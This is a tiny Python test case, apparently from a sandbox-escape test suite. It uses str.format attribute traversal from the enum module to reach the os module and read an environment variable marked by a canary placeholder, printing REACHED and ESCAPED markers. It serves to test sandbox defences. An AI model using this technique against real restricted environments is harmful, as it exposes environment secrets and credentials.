# attack: a walk through public names alone: from an allowed module to the environment
# family: format
import enum
print("REACHED", "{0.sys.flags} {0.sys.modules[os].name}".format(enum))
print("ESCAPED", "{0.sys.modules[os].environ[$CANARY]}".format(enum))
